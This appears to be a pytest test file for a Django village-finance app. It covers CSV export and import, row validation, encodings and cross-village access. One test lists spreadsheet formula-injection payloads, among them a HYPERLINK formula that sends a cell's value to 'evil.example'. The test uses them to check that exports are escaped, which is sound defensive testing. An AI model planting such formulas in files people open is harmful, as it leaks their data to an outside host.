"""CSV export (Excel opens it with Chinese intact) and import (preview with per-row errors; all
rows or none)."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from publicity import services
from publicity.models import EntryImport, FinanceEntry
from publicity.services import PublicityError
from tests.factories import VillageFactory, member
from tests.publicity.factories import accountant, book, entry, publish
from villageaffairs.models import Role

IMPORT = "/v/youyi/open/finance/import/"
FIELDS = ("date", "direction", "category", "amount", "counterparty", "voucher_no", "note")


def _rows(village):
    return [
        tuple(getattr(e, f) for f in FIELDS)
        for e in FinanceEntry.objects.filter(village=village).order_by("date", "pk")
    ]


def _upload(client, name, content):
    return client.post(IMPORT, {"sheet": SimpleUploadedFile(name, content)})


def test_csv_export_has_a_bom_and_reads_back_as_the_same_entries(
    client, staff, youyi, books, today
):
    """Plain cells read back unchanged. (A cell a spreadsheet would run as a formula reads back
    with the apostrophe the export puts in front of it: see the test below.)"""
    entry(
        youyi,
        date(2026, 1, 3),
        "2400.00",
        counterparty="鱼塘承包户 谢启富",
        voucher_no="2601-01",
        note="鱼塘承包费，一月",
    )
    entry(
        youyi,
        date(2026, 1, 9),
        "36500.05",
        "expense",
        counterparty='德阳市"水利"建筑队',
        note="三组沟渠维修\n含材料",
    )
    entry(youyi, date(2026, 1, 9), "0.01", "expense", category="other_expense", counterparty="银行")
    publish(youyi, date(2026, 1, 1), checker=staff.checker, publisher=staff.secretary)
    response = client.get("/v/youyi/open/finance/2026-01.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "日期" and len(rows) == 4
    assert rows[1] == [
        "2026-01-03",
        "收入",
        "发包及上交收入",
        "2400.00",
        "鱼塘承包户 谢启富",
        "2601-01",
        "鱼塘承包费，一月",
    ]

    # Read back: importing the export into another village gives the same entries.
    other = VillageFactory(slug="xiqian")
    book(other, starts_on=date(2026, 1, 1))
    clerk = accountant(other)
    client.force_login(clerk)
    response = client.post(
        "/v/xiqian/open/finance/import/", {"sheet": SimpleUploadedFile("youyi-2026-01.csv", raw)}
    )
    assert response.status_code == 302
    batch = EntryImport.objects.get()
    assert client.post(response.url).status_code == 302
    assert _rows(other) == _rows(youyi)
    assert FinanceEntry.objects.filter(village=other, import_batch=batch).count() == 3


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"发票")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(
    client, staff, youyi, books, today
):
    for i, text in enumerate(FORMULAS):
        entry(youyi, date(2026, 1, 3 + i), "10.00", counterparty="水利队", note=text)
    entry(youyi, date(2026, 1, 20), "10.00", counterparty="谢启富", note="-", voucher_no="-1.50")
    publish(youyi, date(2026, 1, 1), checker=staff.checker, publisher=staff.secretary)
    raw = client.get("/v/youyi/open/finance/2026-01.csv").content
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1:]
    notes = [row[6] for row in rows]
    # Each formula reads back with a leading apostrophe: Excel shows it as text, runs nothing.
    assert notes[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
    # Numbers stay numbers; so does a lone minus sign, which is no formula.
    assert rows[-1][3] == "10.00" and rows[-1][5] == "-1.50"
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def _sheet(*rows, header="日期,收支,类别,金额,对方,凭证号,备注"):
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


GOOD = "2026-01-05,收入,发包及上交收入,2400.00,鱼塘承包户,2601-01,一月"


@pytest.mark.parametrize(
    ("bad", "message"),
    [
        ("2026-01-06,支出,公益事业支出（道路、沟渠、路灯）,12.345,水利队,,", "两位小数"),
        ("2026-01-06,支出,公益事业支出（道路、沟渠、路灯）,-50,水利队,,", "不能为负"),
        ("2026-01-06,支出,公益事业支出（道路、沟渠、路灯）,五十,水利队,,", "不是金额"),
        ("2026-02-30,支出,公益事业支出（道路、沟渠、路灯）,50,水利队,,", "不是日期"),
        ("2026-01-06,支出,发包及上交收入,50,水利队,,", "不属于"),
        ("2026-01-06,借款,发包及上交收入,50,水利队,,", "不是以下之一"),
        ("2026-01-06,支出,公益事业支出（道路、沟渠、路灯）,50,,,", "请填写对方"),
        ("2025-12-06,支出,公益事业支出（道路、沟渠、路灯）,50,水利队,,", "2026-01"),
    ],
)
def test_a_sheet_with_one_bad_row_imports_nothing(client, staff, youyi, books, today, bad, message):
    client.force_login(staff.accountant)
    response = _upload(client, "一月.csv", _sheet(GOOD, GOOD, bad, GOOD))
    assert response.status_code == 302
    preview = client.get(response.url)
    body = preview.content.decode()
    assert message in body, body[-3000:]
    assert 'class="op-bad"' in body and "<td>4</td>" in body  # the sheet's 4th line
    assert 'op-bad"><td>2</td>' not in body
    assert client.post(response.url).status_code == 400
    assert not FinanceEntry.objects.exists()
    batch = EntryImport.objects.get()
    with pytest.raises(PublicityError):
        services.entries_import(actor=staff.accountant, batch=batch)
    assert not FinanceEntry.objects.exists()
    assert EntryImport.objects.get().imported_at is None


def test_rows_in_a_checked_month_make_the_sheet_fail(client, staff, youyi, books, today):
    services.month_check(actor=staff.checker, village=youyi, month=date(2026, 1, 1))
    client.force_login(staff.accountant)
    response = _upload(client, "a.csv", _sheet(GOOD.replace("2026-01-05", "2026-02-05"), GOOD))
    assert "已经民主理财小组审核" in client.get(response.url).content.decode()
    client.post(response.url)
    assert not FinanceEntry.objects.exists()


def test_an_excel_sheet_in_english_imports_every_row(client, staff, youyi, books, today):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(
        [
            "Date",
            "Income or expense",
            "Category",
            "Amount (yuan)",
            "Paid to / received from",
            "Voucher number",
            "Note",
        ]
    )
    ws.append([datetime(2026, 1, 5), "income", "contract", 2400, "鱼塘承包户", "2601-01", None])
    ws.append(["2026/01/09", "支出", "public_works", 1250.5, "明亮照明", 7, "路灯"])
    ws.append([None] * 7)  # blank lines are skipped
    buf = io.BytesIO()
    wb.save(buf)
    client.force_login(staff.accountant)
    response = _upload(client, "accounts.xlsx", buf.getvalue())
    preview = client.get(response.url).content.decode()
    assert "op-bad" not in preview
    client.post(response.url)
    assert _rows(youyi) == [
        (date(2026, 1, 5), "income", "contract", Decimal("2400.00"), "鱼塘承包户", "2601-01", ""),
        (date(2026, 1, 9), "expense", "public_works", Decimal("1250.50"), "明亮照明", "7", "路灯"),
    ]
    # Importing the same sheet twice is refused.
    with pytest.raises(PublicityError):
        services.entries_import(actor=staff.accountant, batch=EntryImport.objects.get())
    assert FinanceEntry.objects.count() == 2


def test_a_gb18030_csv_from_chinese_excel_is_read(client, staff, youyi, books, today):
    client.force_login(staff.accountant)
    response = _upload(client, "a.csv", _sheet(GOOD).decode().encode("gb18030"))
    client.post(response.url)
    assert FinanceEntry.objects.get().counterparty == "鱼塘承包户"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (_sheet(GOOD, header="日期,收支,类别,金额,对方,颜色"), "未知的列"),
        (_sheet(GOOD, header="日期,收支,金额,对方"), "缺少列"),
        (b"", "空"),
        (b"PK\x03\x04 not really a workbook", "Excel"),
    ],
)
def test_a_sheet_that_cannot_be_read_is_refused_at_upload(
    client, staff, youyi, books, content, message
):
    client.force_login(staff.accountant)
    response = _upload(client, "bad.xlsx" if content.startswith(b"PK") else "bad.csv", content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not EntryImport.objects.exists()


def test_another_villages_sheet_is_not_found(client, staff, youyi, books):
    other = VillageFactory(slug="xiqian")
    batch = EntryImport.objects.create(
        village=youyi, filename="a", data="", uploaded_by=staff.accountant
    )
    client.force_login(member(other, Role.ACCOUNTANT))
    assert client.get(f"/v/xiqian/open/finance/import/{batch.pk}/").status_code == 404
